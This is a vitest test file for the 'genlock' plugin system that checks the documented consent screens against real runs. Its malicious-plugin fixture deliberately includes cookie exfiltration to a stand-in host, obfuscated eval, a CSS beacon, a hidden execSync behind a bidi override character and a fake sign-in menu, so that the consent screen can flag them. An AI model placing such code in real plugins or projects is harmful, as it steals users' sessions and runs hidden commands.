/** The consent screens in `docs/PLUGINS.md`, from real runs. `GENLOCK_WRITE_DOCS=1` writes them. */
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import type { ChangePreview } from '../../src/engine/change.ts';
import { plain } from '../../src/ui/style.ts';
import { pluginView } from '../../src/ui/plugin-plan.ts';
import { stringWidth } from '../../src/ui/text.ts';
import { repository } from '../support/cli.ts';
import { examplePlugin, newLife } from '../support/life.ts';
import { temporaryFolder } from '../support/temporary.ts';

const screen = { width: 80, style: plain };
const [begin, end] = ['<!-- consent: begin -->', '<!-- consent: end -->'];
/** Lines of code in the screens must not end the block of the page. */
const fence = '```';

/** Writes a plugin and returns its folder. */
function pluginOf(files: Readonly<Record<string, string>>): string {
  const folder = join(temporaryFolder(), 'quick-notes');
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return folder;
}

/** The bundled sign-in under another name, as the plugin of an unknown author. */
function large(): string {
  const folder = join(temporaryFolder(), 'accounts');
  cpSync(join(repository, 'plugins/auth-jwt'), folder, { recursive: true });
  for (const file of ['manifest.json', 'package.json']) {
    const path = join(folder, file);
    writeFileSync(path, readFileSync(path, 'utf8').replace(/"name": "[^"]*"/u, '"name": "accounts"'));
  }
  return folder;
}

const values = '32,'.repeat(3000);

const malicious = (): string =>
  pluginOf({
    'manifest.json': JSON.stringify({
      name: 'quick-notes',
      version: '1.0.0',
      description: 'Notes on a page.',
      author: 'unknown',
      license: 'MIT',
      category: 'content',
      adminMenu: { label: 'Sign in again', href: '/notes' },
    }),
    'package.json': JSON.stringify({ name: 'quick-notes', version: '1.0.0', type: 'module' }),
    'generator.js': "import * as sdk from 'genlock/sdk';\nexport default () => sdk.copyTemplates();\n",
    'templates/express/client/components/header/Notes.tsx':
      "import '../../lib/notes';\nexport default function Notes() {\n  return null;\n}\n",
    'templates/express/client/lib/notes.ts':
      "navigator.serviceWorker.register('/notes.js');\nfetch('https://collect.dev/' + document.cookie);\nwindow['ev' + 'al'](name);\n",
    'templates/express/client/pages/notes/index.tsx':
      "import '../../data/words.dat';\nimport './notes.css';\nexport default function Page() {\n  return null;\n}\n",
    'templates/express/client/pages/notes/notes.css': ".a {\n  background: url('https://collect.dev/a');\n}\n",
    'templates/express/client/data/words.dat': `eval(String.fromCharCode(${values}32));\n`,
    'templates/express/client/oxlint.config.ts':
      "import { execSync } from 'node:child_process';\n\n// \u202E Reads the settings\nexecSync('id');\nexport default {};\n",
    'templates/express/public/notes.js': "self.addEventListener('fetch', () => {});\n",
  });

const agree = () => Promise.resolve(false);

async function screenOf(folder: string): Promise<string> {
  const life = await newLife();
  let shown: ChangePreview | undefined;
  const preview = (given: ChangePreview): void => void (shown = given);
  await expect(life.add([folder], { interactive: true, agree, preview })).rejects.toThrow('You did not agree');
  const [change] = shown?.plugins ?? [];
  if (change === undefined) throw new Error('no plugin was shown');
  return pluginView({ ...change, source: `folder:../${change.name}` }, screen);
}

test('the documented consent screens equal the screens of real runs', async () => {
  const screens = [
    ['A small plugin', await screenOf(examplePlugin('page-views'))],
    ['A large plugin', await screenOf(large())],
    ['A malicious plugin', await screenOf(malicious())],
  ] as const;
  const text = screens.map(([title, view]) => `### ${title}\n\n${fence}text\n${view}\n${fence}`).join('\n\n');
  for (const line of text.split('\n')) expect(stringWidth(line)).toBeLessThanOrEqual(screen.width);
  const file = join(repository, 'docs/PLUGINS.md');
  const page = readFileSync(file, 'utf8');
  const [before = '', rest = ''] = page.split(begin);
  const wanted = `${before}${begin}\n\n${text}\n\n${end}${rest.split(end)[1] ?? ''}`;
  if (process.env['GENLOCK_WRITE_DOCS'] !== undefined) writeFileSync(file, wanted);
  expect(page).toContain(begin);
  expect(readFileSync(file, 'utf8')).toBe(wanted);
});
